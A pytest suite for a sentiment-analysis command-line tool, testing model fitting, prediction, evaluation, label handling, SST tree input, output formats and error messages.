"""The `sentiment` command through typer's CliRunner: fit, predict, evaluate, options, help and errors
(more bad input in test_cli_errors.py)."""

from __future__ import annotations

import gzip
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

import sentiment
from sentiment import Ensemble, ModelFileError, Pipeline
from sentiment.cleaning import READING_VERSION
from sentiment.cli import app
from sentiment.default_models import default_model_path
from sentiment.models.nets import POOLINGS

from conftest import SST_TREES, edit_config, symlink, write_table

runner = CliRunner()


def invoke(*args, input=None):
    return runner.invoke(app, [str(a) for a in args], input=input)


def assert_ok(result):
    assert result.exit_code == 0, f"exit {result.exit_code}: {result.output}\n{result.exception!r}"
    assert "Traceback" not in result.output


def assert_error(result, pattern=None):
    """Exit status != 0, exactly one line on stderr starting with 'Error:', no traceback and no stray exception."""
    assert result.exit_code != 0, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, result.stderr
    assert result.stderr.strip().splitlines()[-1] == errors[0]  # the error is the last thing printed
    assert "Error" not in result.stdout
    if pattern is not None:
        assert re.search(pattern, errors[0]), errors[0]
    return errors[0]


@pytest.fixture(scope="module")
def files(tmp_path_factory, binary_frames):
    """Train/dev tables with the columns review/stars (not the defaults) plus extra columns."""
    folder = tmp_path_factory.mktemp("cli")
    train, dev = binary_frames
    paths = {}
    for name, frame in (("train", train), ("dev", dev)):
        table = pd.DataFrame({"id": [f"r{i}" for i in range(len(frame))], "review": frame.text,
                              "stars": frame.label, "source": "web"})
        paths[name] = folder / f"{name}.csv"
        write_table(table, paths[name])
        paths[f"{name}_frame"] = table
    paths["folder"] = folder
    return paths


@pytest.fixture(scope="module")
def model(files):
    out = files["folder"] / "model"
    result = invoke("fit", files["train"], "--dev", files["dev"], "--text-column", "review", "--label-column", "stars",
                    "--vectorizer", "tfidf", "--model", "logreg", "--out", out, "--json")
    assert_ok(result)
    return out, json.loads(result.stdout)


# -- fit -----------------------------------------------------------------------------------------------
def test_fit_with_dev_json(model, files):
    out, report = model
    assert report["n"] == len(files["dev_frame"])
    assert report["accuracy"] > 0.85 and 0 < report["macro_f1"] <= 1
    assert report["labels"] == ["negative", "positive"]
    assert report["model"] == str(out)
    config = json.loads((out / "config.json").read_text())
    assert config["columns"] == {"text": "review", "label": "stars"}
    assert config["metrics"]["dev"]["accuracy"] == report["accuracy"]
    assert report["macro_f1_labels"] == 2 and "macro_f1_labels" not in config["metrics"]["dev"]  # (all averaged)
    assert config["data"]["n_train"] == len(files["train_frame"])


def test_fit_json_keeps_its_notes_on_stderr(files, tmp_path):
    result = invoke("fit", files["train"], "--dev", files["train"], "--text-column", "review", "--label-column",
                    "stars", "--out", tmp_path / "m", "--json")
    assert_ok(result)
    assert json.loads(result.stdout)["n"] == len(files["train_frame"])  # stdout: the JSON alone
    assert result.stderr.splitlines() == ["note: --dev is the training file, so the dev figures are figures on training data"]


def test_a_dev_file_with_other_column_names_is_told_to_rename_them(files, tmp_path):
    dev = tmp_path / "dev.csv"
    files["dev_frame"].rename(columns={"stars": "sentiment"}).to_csv(dev, index=False)
    assert_error(invoke("fit", files["train"], "--dev", dev, "--text-column", "review", "--label-column", "stars",
                        "--out", tmp_path / "m"),
                 r"--dev dev.csv has no column 'stars'; its columns are: id, review, sentiment, source; the --text-column and "
                 r"--label-column of the training file name the dev file's too: rename its columns to match")
    assert not (tmp_path / "m").exists()


def test_fit_notes_labels_spelt_two_ways_once(tmp_path, binary):
    path = tmp_path / "train.csv"
    labels = ["Pos" if i % 5 == 0 and y == "pos" else y for i, y in enumerate(binary.train_labels)]
    write_table(pd.DataFrame({"text": binary.train_texts, "label": labels}), path)
    result = invoke("fit", path, "--out", tmp_path / "m", "--model", "logreg")  # trains twice: dev, then refit
    assert_ok(result)
    lines = result.stderr.splitlines()
    notes = [line for line in lines if "differ only" in line]
    assert notes == ["note: some labels differ only in capitalisation (Pos / pos) and are different classes; write "
                     "each label one way if they mean the same"]
    assert lines.index(notes[0]) < next(i for i, line in enumerate(lines) if line.startswith("training "))


def test_fit_notes_labels_that_spell_a_missing_value(tmp_path, binary):
    path = tmp_path / "train.csv"
    labels = ["nan" if i % 7 == 0 else y for i, y in enumerate(binary.train_labels)]  # as astype(str) writes NaN
    write_table(pd.DataFrame({"text": binary.train_texts, "label": labels}), path)
    result = invoke("fit", path, "--out", tmp_path / "m", "--model", "logreg")
    assert_ok(result)
    assert "note: label(s) 'nan' look like missing values written as text, and are learnt as a class; drop those " \
           "rows or label them, unless it is a class" in result.stderr.splitlines()


@pytest.mark.parametrize("model, advice", [("logreg", ", or --set class_weight=balanced,"), ("nb", "")])
def test_fit_notes_a_rare_class_that_the_model_gives_no_dev_text(tmp_path, binary, model, advice):
    """A class of a few texts of no words of its own never wins: fit says so, and what may teach it."""
    path = tmp_path / "train.csv"
    labels = ["mixed" if i % 30 == 0 else y for i, y in enumerate(binary.train_labels)]
    write_table(pd.DataFrame({"text": binary.train_texts, "label": labels}), path)
    result = invoke("fit", path, "--out", tmp_path / "m", "--model", model, "--json")
    assert_ok(result)
    report = json.loads(result.stdout)
    held = report["per_class"]["mixed"]["support"]
    assert held and report["per_class"]["mixed"]["recall"] == 0
    trained = sum(y == "mixed" for y in labels) - held, round(len(labels) * 0.9)  # the scored model's: 90%
    note = (f"note: the model labelled no dev text as mixed ({held} in dev; {trained[0]} of the {trained[1]} training "
            f"texts): a class of few training texts may never win; more of its texts{advice} may teach it")
    assert note in result.stderr.splitlines() and "notes" not in report
    if model == "logreg":  # without --json: after the report of the dev figures it explains, with a refit or not
        for refit in ("--refit", "--no-refit"):
            shown = invoke("fit", path, "--out", tmp_path / "m", "--model", model, refit)
            assert_ok(shown)
            assert shown.output.count(note) == 1 and shown.output.index(note) > shown.output.index("confusion matrix")
            assert shown.stdout.rstrip().endswith(f"saved the model to {tmp_path / 'm'}")


def test_a_header_repeated_with_its_byte_order_mark_is_refused(tmp_path):
    """Two Excel exports joined (cat a.csv b.csv): the second header, after its mark, is no text to learn."""
    path = tmp_path / "joined.csv"
    path.write_text("\ufefftext,label\ngreat film,pos\n\ufefftext,label\nawful film,neg\n", encoding="utf-8")
    assert_error(invoke("fit", path, "--out", tmp_path / "m"), r"data row 2 repeats the header row \('text', 'label'\)")
    spaced = tmp_path / "spaced.csv"  # "text, label": the column " label"
    spaced.write_text("text, label\ngreat film, pos\ntext, label\nawful film, neg\n", encoding="utf-8")
    assert_error(invoke("fit", spaced, "--label-column", " label", "--out", tmp_path / "m"),
                 r"data row 2 repeats the header row \('text', ' label'\)")


def test_fit_without_dev_uses_dev_fraction(files, tmp_path):
    out = tmp_path / "m"
    result = invoke("fit", files["train"], "--text-column", "review", "--label-column", "stars", "--dev-fraction", "0.2",
                    "--out", out, "--json")
    assert_ok(result)
    report = json.loads(result.stdout)
    assert report["n"] == 40 and set(report) >= {"accuracy", "macro_f1", "n", "per_class", "confusion_matrix"}
    assert report["refit_on_all"] is True  # the saved model is not the one scored: scripts can tell
    assert report["n_train"] == 200  # the texts the saved model learnt from, as with --dev-fraction 0
    config = json.loads((out / "config.json").read_text())
    # scored on the 40 held-out texts, then trained again on all 200
    assert config["data"]["n_train"] == 200 and config["data"]["n_dev"] == 40 and config["data"]["refit_on_all"]
    assert "20%" in config["data"]["dev"] and config["metrics"]["dev"]["accuracy"] == report["accuracy"]
    vocabulary = set(Pipeline.load(out).vectorizer_.vocabulary_)

    kept = tmp_path / "scored"
    result = invoke("fit", files["train"], "--text-column", "review", "--label-column", "stars", "--dev-fraction", "0.2",
                    "--out", kept, "--json", "--no-refit")
    assert_ok(result)
    assert json.loads(result.stdout)["refit_on_all"] is False and json.loads(result.stdout)["n_train"] == 160
    config = json.loads((kept / "config.json").read_text())
    assert config["data"]["n_train"] == 160 and not config["data"]["refit_on_all"]
    assert set(Pipeline.load(kept).vectorizer_.vocabulary_) < vocabulary  # the dev texts' words are new


def test_fit_with_dev_fraction_0_trains_once_on_all_the_data(files, tmp_path):
    """--dev-fraction 0 holds out nothing: the model trains once, on every text, and the saved model is the
    one a fit on all of them gives; the output says there are no dev figures, and options that go with them
    are refused."""
    out = tmp_path / "m"
    args = ("--text-column", "review", "--label-column", "stars", "--dev-fraction", "0", "--model", "logreg")
    result = invoke("fit", files["train"], *args, "--out", out, "--json")
    assert_ok(result)
    assert json.loads(result.stdout) == {"n": 0, "n_train": 200, "model": str(out)}
    config = json.loads((out / "config.json").read_text())
    assert config["data"]["n_train"] == 200 and config["data"]["dev"] is None and "metrics" not in config
    assert "refit_on_all" not in config["data"]  # trained once: nothing was trained again
    frame = files["train_frame"]
    alone = Pipeline.for_task("polarity", None, "logreg").fit(frame.review.tolist(), frame.stars.tolist())
    texts = frame.review.tolist()[:20]
    np.testing.assert_allclose(Pipeline.load(out).predict_proba(texts), alone.predict_proba(texts), rtol=1e-6)
    plain = invoke("fit", files["train"], *args, "--out", tmp_path / "p")
    assert_ok(plain)
    assert "no dev figures (--dev-fraction 0); the model learnt from 200 texts" in plain.stdout
    assert "accuracy" not in plain.stdout
    for extra in (["--report", tmp_path / "r"], ["--no-refit"]):
        assert_error(invoke("fit", files["train"], *args, *extra, "--out", tmp_path / "x"),
                     "goes with dev figures, and --dev-fraction 0 holds out no dev part")
    assert not (tmp_path / "x").exists() and not (tmp_path / "r").exists()


def test_fit_notes_an_epoch_kept_of_a_score_later_ones_matched_at_a_lower_loss(tmp_path):
    """An mlp that reaches a perfect held-out macro-F1 early keeps that epoch, though later ones lower the held-out
    loss: fit says so once (not again for the refit) and names --set stop_metric=loss, which stops on that loss."""
    rng = np.random.default_rng(0)
    words = {"positive": "great superb lovely fun".split(), "negative": "awful dull boring bad".split()}
    labels = rng.choice(["positive", "negative"], 300)
    rows = [f"the film was {' and '.join(rng.choice(words[label], 2))}" for label in labels]
    data = tmp_path / "easy.csv"
    pd.DataFrame({"text": rows, "label": labels}).to_csv(data, index=False)
    result = invoke("fit", data, "--model", "mlp", "--set", "lr=0.01", "--out", tmp_path / "m")
    assert_ok(result)
    notes = [line for line in result.stderr.splitlines() if line.startswith("note: mlp's early stopping kept epoch")]
    assert len(notes) == 1 and re.search(r"held-out macro-F1 was 1\.0, which no later epoch could beat, .*; --set "
                                         r"stop_metric=loss keeps the epoch of the lowest held-out loss$", notes[0])
    by_loss = invoke("fit", data, "--model", "mlp", "--set", "lr=0.01", "--set", "stop_metric=loss", "--out",
                     tmp_path / "l")
    assert_ok(by_loss)
    assert "early stopping kept" not in by_loss.stderr and "held-out loss 0." in by_loss.stderr


def test_fit_report_titles_the_refit_models_curves_with_the_data_file(tmp_path, monkeypatch):
    """After a refit the report's training curves are the saved model's: their title names the file it learnt from
    (not the usage's DATA)."""
    import sentiment.evaluation

    titles, write = [], sentiment.evaluation.write_report
    monkeypatch.setattr(sentiment.evaluation, "write_report",
                        lambda *args, **kwargs: titles.append(kwargs.get("history_note")) or write(*args, **kwargs))
    data = tmp_path / "my reviews.csv"
    pd.DataFrame({"text": ["good fun film", "dull bad film"] * 20, "label": ["positive", "negative"] * 20}).to_csv(
        data, index=False)
    assert_ok(invoke("fit", data, "--model", "mlp", "--set", "epochs=2", "--report", tmp_path / "r", "--out",
                     tmp_path / "m"))
    assert titles == ["the saved model, trained again on all of my reviews.csv after the dev figures"]
    assert (tmp_path / "r" / "training_history.png").stat().st_size > 1000


def test_fit_logs_each_epoch_where_no_progress_bar_shows(files, tmp_path):
    """A neural fit whose stderr is no terminal (a log file, CI) gets a line per epoch there, with the loss and the
    held-out metric it stops on; --json keeps stderr for warnings."""
    args = ("fit", files["train"], "--text-column", "review", "--label-column", "stars", "--model", "mlp",
            "--set", "epochs=2", "--no-refit")
    result = invoke(*args, "--out", tmp_path / "m")
    assert_ok(result)
    epochs = [line for line in result.stderr.splitlines() if line.startswith("epoch ")]
    assert "too few to tell its epochs apart" not in result.stderr  # 18 held-out texts of 180
    few = tmp_path / "few.csv"
    files["train_frame"].head(40).to_csv(few, index=False)
    small = invoke("fit", few, *args[2:], "--out", tmp_path / "s")
    assert_ok(small)
    assert ("note: mlp early-stops on 4 held-out texts, too few to tell its epochs apart (the epoch kept is chance); "
            "give more texts, a larger --set dev_fraction, or --set dev_fraction=0") in " ".join(small.stderr.split())
    one = invoke("fit", few, *args[2:-3], "--set", "epochs=1", "--no-refit", "--out", tmp_path / "one")
    assert_ok(one)  # one epoch: nothing for the held-out texts to choose
    assert "too few to tell" not in one.stderr and "epoch 1/1" in one.stderr
    assert len(epochs) == 2 and re.fullmatch(r"epoch 2/2 \(.+\): loss \d\.\d{4}, held-out macro-F1 \d\.\d{4}; \d+\.\d s",
                                             epochs[1]), epochs
    quiet = invoke(*args, "--out", tmp_path / "j", "--json")
    assert_ok(quiet)
    assert "epoch" not in quiet.stderr
    import logging

    logger = logging.getLogger("sentiment.training")
    assert logger.handlers == [] and logger.propagate  # the command's handler is gone
    class Host(logging.Handler):  # a host program's handler on the root logger, writing where stderr is then
        def emit(self, record):
            sys.stderr.write(self.format(record) + "\n")

    root, host = logging.getLogger(), Host()
    root.addHandler(host)
    try:
        again = invoke(*args, "--out", tmp_path / "h")
    finally:
        root.removeHandler(host)
    assert_ok(again)
    assert sum("epoch 1/2" in line for line in again.stderr.splitlines()) == 1  # each line said once


def test_fit_plain_output(files, tmp_path):
    result = invoke("fit", files["train"], "--text-column", "review", "--label-column", "stars", "--out", tmp_path / "m")
    assert_ok(result)
    assert "accuracy" in result.stdout and "macro-F1" in result.stdout and "confusion matrix" in result.stdout
    assert f"saved the model to {tmp_path / 'm'}" in result.stdout
    defaults = Pipeline()
    assert f"training {defaults.vectorizer_name} + {defaults.model}" in result.stderr  # logged to stderr


def test_fit_set_options(files, tmp_path):
    out = tmp_path / "m"
    result = invoke("fit", files["train"], "--text-column", "review", "--label-column", "stars", "--model", "logreg",
                    "--set", "C=2", "--set", "ngram_range=[1,3]", "-s", "stopwords=true", "--out", out, "--json")
    assert_ok(result)
    config = json.loads((out / "config.json").read_text())
    assert config["pipeline"]["options"] == {"C": 2, "ngram_range": [1, 3], "stopwords": True}
    assert config["stages"]["model"]["params"]["C"] == 2
    assert config["stages"]["vectorizer"]["params"]["ngram_range"] == [1, 3]
    assert config["cleaner"]["stopwords"] is True
    vocabulary = json.loads((out / "vectorizer" / "state.json").read_text())["terms"]
    assert any(term.count(" ") == 2 for term in vocabulary)  # trigrams


def test_fit_label_names_and_report(files, tmp_path):
    result = invoke("fit", files["train"], "--dev", files["dev"], "--text-column", "review", "--label-column", "stars",
                    "--label-names", "0=bad,1=good", "--out", tmp_path / "m", "--report", tmp_path / "rep")
    assert_ok(result)
    assert (tmp_path / "rep" / "metrics.json").is_file()
    assert f"wrote the report to {tmp_path / 'rep'} (metrics.json, mistakes.csv, confusion_matrix.png)" in result.stderr
    assert (tmp_path / "rep" / "confusion_matrix.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    metrics = json.loads((tmp_path / "rep" / "metrics.json").read_text())
    assert metrics["labels"] == ["bad", "good"] and metrics["model"] == str(tmp_path / "m")  # which model it scores
    mistakes = pd.read_csv(tmp_path / "rep" / "mistakes.csv", keep_default_na=False)
    assert list(mistakes.columns) == ["text", "label", "predicted", "score", "label_score"]
    assert set(mistakes.label) | set(mistakes.predicted) <= {"bad", "good"}
    predicted = json.loads(invoke("predict", "--model", tmp_path / "m", "--json", "a superb film").stdout)
    assert predicted[0]["label"] == "good"


@pytest.mark.parametrize("suffix", [".jsonl", ".parquet", ".tsv", ".csv.gz"])
def test_fit_other_formats(binary_frames, tmp_path, suffix):
    train, _ = binary_frames
    path = tmp_path / f"train{suffix}"
    if suffix == ".csv.gz":
        train.to_csv(path, index=False, compression="gzip")
    else:
        write_table(train, path)
    result = invoke("fit", path, "--model", "nb", "--vectorizer", "count", "--out", tmp_path / "m", "--json")
    assert_ok(result)
    assert json.loads(result.stdout)["accuracy"] > 0.85


def test_fit_sst_trees_with_phrases(tmp_path):
    trees = tmp_path / "train.txt"
    trees.write_text(SST_TREES * 3)
    dev = tmp_path / "dev.csv"
    pd.DataFrame({"text": ["It was not good .", "The film is wonderful ."], "label": [1, 3]}).to_csv(dev, index=False)
    result = invoke("fit", trees, "--phrases", "--dev", dev, "--model", "logreg", "--out", tmp_path / "m", "--json")
    assert_ok(result)
    report = json.loads(result.stdout)
    assert report["n"] == 2 and report["labels"] == ["very negative", "negative", "neutral", "positive", "very positive"]
    config = json.loads((tmp_path / "m" / "config.json").read_text())
    assert config["data"]["phrases"] is True and config["data"]["n_train"] > 5


def test_a_two_class_file_is_refused_for_a_five_class_model(tmp_path):
    trees = tmp_path / "train.txt"
    trees.write_text(SST_TREES * 3)
    binary = tmp_path / "sst2_dev.csv"
    pd.DataFrame({"text": ["It was not good .", "The film is wonderful ."], "label": [0, 1]}).to_csv(binary, index=False)
    error = assert_error(invoke("fit", trees, "--dev", binary, "--model", "logreg", "--out", tmp_path / "m"),
                         r"--dev sst2_dev.csv has the labels 0 and 1 only, but the training data have 5 classes .*"
                         r"'very negative' and 'negative': is it a two-class file\?")
    assert not (tmp_path / "m").exists()
    advice = re.search(r"--label-names '([^']+)'", error).group(1)  # the advice works
    assert advice == "0=very negative,1=negative,2=neutral,3=positive,4=very positive"
    assert_ok(invoke("fit", trees, "--dev", binary, "--label-names", advice, "--model", "logreg", "--out", tmp_path / "a"))
    assert_ok(invoke("fit", trees, "--dev", trees, "--model", "logreg", "--out", tmp_path / "m"))
    assert_error(invoke("evaluate", binary, "--model", tmp_path / "m"),
                 r"sst2_dev.csv has the labels 0 and 1 only, but the model has 5 classes .*--label-names")
    named = invoke("evaluate", binary, "--model", tmp_path / "m", "--label-names", "0=negative,1=positive", "--json")
    assert_ok(named)
    assert json.loads(named.stdout)["n"] == 2


def test_fit_refuses_a_two_class_dev_file_for_any_task_as_evaluate_does(tmp_path):
    train, dev = tmp_path / "train.csv", tmp_path / "dev.csv"
    words = ["awful", "dull", "fine", "good", "superb"]
    pd.DataFrame({"text": [f"{w} {i}" for i in range(6) for w in words], "label": list(range(5)) * 6}).to_csv(train, index=False)
    pd.DataFrame({"text": ["awful", "dull"], "label": [0, 1]}).to_csv(dev, index=False)
    fit = ("fit", train, "--task", "emotion", "--model", "logreg", "--out")
    assert_error(invoke(*fit, tmp_path / "m", "--dev", dev), "dev.csv has the labels 0 and 1 only")
    assert_ok(invoke(*fit, tmp_path / "m"))
    assert_error(invoke("evaluate", dev, "--model", tmp_path / "m"), "dev.csv has the labels 0 and 1 only")


def test_fit_phrases_without_dev_holds_out_sentences(tmp_path):
    trees = tmp_path / "train.txt"
    trees.write_text("\n".join(f"({3 if i % 2 else 1} (2 item{i}) ({3 if i % 2 else 1} word{i}))" for i in range(40)))
    result = invoke("fit", trees, "--phrases", "--dev-fraction", "0.25", "--model", "logreg", "--out", tmp_path / "m",
                    "--json")
    assert_ok(result)
    assert json.loads(result.stdout)["n"] == 10  # whole sentences, not phrases of trees the model learnt
    data = json.loads((tmp_path / "m" / "config.json").read_text())["data"]
    assert data["dev"] == "25% of train.txt (sentences) (seed 0)" and data["n_train"] == 120  # refit: every phrase


def test_a_network_on_phrases_early_stops_on_whole_training_sentences(tmp_path, monkeypatch):
    from sentiment.pipeline import Pipeline

    trees = tmp_path / "train.txt"
    trees.write_text("\n".join(f"({3 if i % 2 else 1} (2 item{i}) ({3 if i % 2 else 1} word{i}))" for i in range(40)))
    fits, fit = [], Pipeline.fit

    def recorded(self, texts, labels, **kwargs):
        fits.append((list(texts), kwargs.get("dev")))
        return fit(self, texts, labels, **kwargs)

    monkeypatch.setattr(Pipeline, "fit", recorded)
    result = invoke("fit", trees, "--phrases", "--dev-fraction", "0.25", "--model", "mlp", "--set", "epochs=2",
                    "--set", "dev_fraction=0.2", "--out", tmp_path / "m", "--json")
    assert_ok(result)
    assert len(fits) == 2  # scored on 10 dev sentences, then refit
    tree_of = lambda text: text.split()[0][len("item"):]  # "item7 word7", "item7" and "word7" are tree 7's
    for (texts, (held, _)), n_held in zip(fits, (6, 8)):  # 20% of the 30, then of all 40 sentences
        assert len(held) == n_held and all(text.startswith("item") and " word" in text for text in held)
        held_trees = {tree_of(text) for text in held}
        assert not any(tree_of(text) in held_trees for text in texts)  # no phrase of a held-out tree is learnt
    data = json.loads((tmp_path / "m" / "config.json").read_text())["data"]
    assert data["early_stopping"].startswith("20% of the training sentences")
    assert "early_stopping_on=8" in invoke("info", tmp_path / "m").stdout  # the held-out sentences, as given


def test_a_network_on_too_few_trees_to_hold_sentences_out_holds_out_phrases(tmp_path):
    trees = tmp_path / "train.txt"
    trees.write_text(SST_TREES)  # five sentences: a tenth of them is none
    result = invoke("fit", trees, "--phrases", "--dev", trees, "--model", "mlp", "--set", "epochs=1", "--out",
                    tmp_path / "m")
    assert_ok(result)
    assert "too few training sentences to hold out 10% of them for early stopping" in result.stderr
    data = json.loads((tmp_path / "m" / "config.json").read_text())["data"]
    assert data["early_stopping"].startswith("10% of the training part")


def test_evaluate_with_label_names_for_other_label_values(model, files, tmp_path):
    out, fit_report = model
    renamed = tmp_path / "dev.csv"
    files["dev_frame"].assign(stars=files["dev_frame"].stars.map({0: "bad", 1: "good"})).to_csv(renamed, index=False)
    assert_error(invoke("evaluate", renamed, "--model", out), r"label\(s\) bad, good were not seen in training.*--label-names")
    result = invoke("evaluate", renamed, "--model", out, "--label-names", "bad=negative,good=positive", "--json")
    assert_ok(result)
    assert json.loads(result.stdout)["accuracy"] == pytest.approx(fit_report["accuracy"])
    assert_error(invoke("evaluate", renamed, "--model", out, "--label-names", "bad=neg,good=positive"),
                 r"--label-names gives the name\(s\) neg, which the model does not know: its labels are negative, "
                 r"positive; give each of the file's values one of them \(--label-names VALUE=LABEL")  # not neg=negative


def test_a_model_of_json_true_and_false_scores_a_file_of_1_and_0_and_the_reverse(files, tmp_path):
    frame = files["dev_frame"].rename(columns={"review": "text", "stars": "label"})
    frame.assign(label=frame.label.astype(bool)).to_json(tmp_path / "bools.jsonl", orient="records", lines=True)
    frame.to_csv(tmp_path / "ints.csv", index=False)
    for trained, scored in (("bools.jsonl", "ints.csv"), ("ints.csv", "bools.jsonl")):
        assert_ok(invoke("fit", tmp_path / trained, "--dev", tmp_path / trained, "--out", tmp_path / trained[:4]))
        result = invoke("evaluate", tmp_path / scored, "--model", tmp_path / trained[:4], "--json")
        assert_ok(result)  # the model file writes the classes True, False: "True" read as 1, as True is
        assert json.loads(result.stdout)["n"] == len(frame)


def test_label_names_may_spell_whole_numbers_as_the_file_does(model, files, tmp_path):
    """pandas writes an int column with a gap as 1.0, 0.0; the labels read as 1, 0, and --label-names written as
    the file spells them must name them."""
    out, fit_report = model
    floats = tmp_path / "floats.csv"
    files["dev_frame"].assign(stars=files["dev_frame"].stars.astype(float)).to_csv(floats, index=False)
    assert "1.0" in floats.read_text()
    result = invoke("evaluate", floats, "--model", out, "--text-column", "review", "--label-column", "stars",
                    "--label-names", "0.0=negative,01=positive", "--json")
    assert_ok(result)
    assert json.loads(result.stdout)["accuracy"] == pytest.approx(fit_report["accuracy"])
    assert_ok(invoke("fit", floats, "--text-column", "review", "--label-column", "stars", "--label-names",
                     "0.0=bad,1.0=good", "--no-refit", "--out", tmp_path / "m"))
    assert json.loads((tmp_path / "m" / "config.json").read_text())["labels"]["names"] == ["bad", "good"]


def test_label_names_may_spell_json_booleans_as_the_file_does(model, files, tmp_path):
    """JSON's true / false read as Python's True / False: --label-names written as the file spells them names them."""
    out, fit_report = model
    booleans = tmp_path / "booleans.jsonl"
    frame = files["dev_frame"]
    booleans.write_text("".join(json.dumps({"review": text, "stars": bool(stars)}) + "\n"
                                for text, stars in zip(frame.review, frame.stars)), encoding="utf-8")
    assert '"stars": true' in booleans.read_text()
    result = invoke("evaluate", booleans, "--model", out, "--text-column", "review", "--label-column", "stars",
                    "--label-names", "false=negative,true=positive", "--json")
    assert_ok(result)
    assert json.loads(result.stdout)["accuracy"] == pytest.approx(fit_report["accuracy"])


def test_fit_binary_sst_trees(tmp_path):
    trees = tmp_path / "train.txt"
    trees.write_text(SST_TREES * 3)
    result = invoke("fit", trees, "--phrases", "--binary", "--dev", trees, "--model", "logreg", "--out", tmp_path / "m",
                    "--json")
    assert_ok(result)
    report = json.loads(result.stdout)
    # every tree is scored (5 sentences, three times each), the 3 neutral ones dropped
    assert report["labels"] == ["negative", "positive"] and report["n"] == 12
    scored = invoke("evaluate", trees, "--model", tmp_path / "m", "--json")  # a two-class model reads trees as SST-2
    assert_ok(scored)
    assert json.loads(scored.stdout)["n"] == 12 and json.loads(scored.stdout)["accuracy"] == report["accuracy"]
    five = invoke("fit", trees, "--dev", trees, "--model", "logreg", "--out", tmp_path / "m5", "--json")
    assert_ok(five)
    assert json.loads(invoke("evaluate", trees, "--model", tmp_path / "m5", "--json").stdout)["n"] == 15  # all 5 classes
    table = tmp_path / "t.csv"
    pd.DataFrame({"text": ["a", "b"], "label": [0, 1]}).to_csv(table, index=False)
    assert_error(invoke("fit", table, "--binary", "--out", tmp_path / "n"), "--binary applies to SST trees")


def test_fit_reads_a_dev_file_of_trees_or_codes_as_the_two_named_classes_it_trains(tmp_path):
    trees = tmp_path / "dev.txt"
    trees.write_text(SST_TREES * 3)
    train = pd.DataFrame({"text": ["It was not good .", "The film is wonderful .", "A dull mess .", "Lovely acting ."] * 3,
                          "label": [0, 1, 0, 1] * 3})
    codes, named = tmp_path / "codes.csv", tmp_path / "named.csv"
    train.to_csv(codes, index=False)
    train.assign(label=train.label.map({0: "negative", 1: "positive"})).to_csv(named, index=False)
    for data in (codes, named):  # trees beside two classes are SST-2, as evaluate reads them
        result = invoke("fit", data, "--dev", trees, "--model", "logreg", "--out", tmp_path / data.stem, "--json")
        assert_ok(result)
        assert "read as SST-2" in result.stderr
        assert json.loads(result.stdout)["n"] == 12 and json.loads(result.stdout)["labels"] == ["negative", "positive"]
    # named training labels, a dev file of codes: --label-names names the dev file's values
    assert_error(invoke("fit", named, "--dev", codes, "--out", tmp_path / "x"), r"label\(s\) 0, 1 do not occur.*--label-names")
    result = invoke("fit", named, "--dev", codes, "--label-names", "0=negative,1=positive", "--out", tmp_path / "x",
                    "--json")
    assert_ok(result)
    assert json.loads(result.stdout)["n"] == 12
    assert Pipeline.load(tmp_path / "x").label_names_ == ["negative", "positive"]


# -- predict ---------------------------------------------------------------------------------------------
def test_predict_texts_plain(model):
    out, _ = model
    result = invoke("predict", "--model", out, "A superb and lovely film!", "The ending was so dull.")
    assert_ok(result)
    lines = result.stdout.strip().splitlines()
    assert len(lines) == 2
    label, score, text = lines[0].split("\t")
    assert (label, text) == ("positive", "A superb and lovely film!") and 0.5 < float(score) <= 1
    assert lines[1].split("\t")[0] == "negative"


def test_predict_json(model):
    out, _ = model
    result = invoke("predict", "--model", out, "--json", "A superb and lovely film!", "not great at all")
    assert_ok(result)
    items = json.loads(result.stdout)
    assert [item["label"] for item in items] == ["positive", "negative"]
    assert items[0]["text"] == "A superb and lovely film!"
    assert set(items[0]["scores"]) == {"negative", "positive"}
    assert sum(items[1]["scores"].values()) == pytest.approx(1, abs=1e-5)


def test_json_gives_back_texts_with_unicode_line_separators_as_they_are(model):
    """U+2028 and U+2029, which json.dumps leaves as they are, were read as line ends by the indenting, which
    put two spaces into the text."""
    out, _ = model
    texts = ["good\u2028film", "bad\u2029film"]
    result = invoke("predict", "--model", out, "--json", *texts)
    assert_ok(result)
    assert [item["text"] for item in json.loads(result.stdout)] == texts
    assert "\u2028" not in result.stdout and "\\u2028" in result.stdout  # escaped: one line each
    cleaned = invoke("clean", "--json", *texts)
    assert_ok(cleaned)
    assert [item["text"] for item in json.loads(cleaned.stdout)] == texts


def test_predict_from_stdin(model):
    out, _ = model
    result = invoke("predict", "--model", out, "-", input="A superb film\n\nso dull and boring\n\n")
    assert_ok(result)
    assert [line.split("\t")[0] for line in result.stdout.strip().splitlines()] == ["positive", "negative"]
    # the output has fewer lines than the input: said, with the blank lines before a text (not the last one)
    assert "note: skipped blank line 2 of stdin: the output has a line per text" in result.stderr
    assert "note: skipped" not in invoke("predict", "--model", out, "-", input="A superb film\nso dull\n\n").stderr
    # also where a bad line stops it: the note explains the text's number in the error
    stopped = subprocess.run([sys.executable, "-m", "sentiment", "predict", "--model", str(out), "-"],
                             input=b"A superb film\n\n\xff so dull\n", capture_output=True)
    assert stopped.returncode == 1 and b"text 2 on stdin is not UTF-8" in stopped.stderr
    assert b"note: skipped blank line 2 of stdin" in stopped.stderr


def test_predict_explain_prints_the_words_under_each_prediction(model):
    out, _ = model
    result = invoke("predict", "--model", out, "--explain", "A superb and lovely film!", "The ending was so dull.")
    assert_ok(result)
    lines = result.stdout.splitlines()
    assert lines[0].startswith("positive\t")
    second = next(i for i, line in enumerate(lines) if line.startswith("negative\t"))
    words = [line.split() for line in lines[1:second]]
    assert words and all(len(w) == 2 and float(w[0]) != 0 for w in words)
    assert words[0][1] in {"superb", "lovely"} and float(words[0][0]) > 0  # the strongest word speaks for the label
    assert "dull" in [line.split()[-1] for line in lines[second + 1:]]
    pipe = Pipeline.load(out)
    assert [w[1] for w in words] == [w["word"] for w in pipe.explain(["A superb and lovely film!"])[0]["words"]
                                     if abs(w["weight"]) >= 0.0005]


def test_predict_explain_json_and_its_errors(model, files, tmp_path):
    out, _ = model
    result = invoke("predict", "--model", out, "--explain", "--json", "The ending was so dull.")
    assert_ok(result)
    item = json.loads(result.stdout)[0]
    pipe = Pipeline.load(out)
    assert item["explanation"] == {k: v for k, v in pipe.explain(["The ending was so dull."])[0].items()
                                   if k in ("label", "score", "words")}
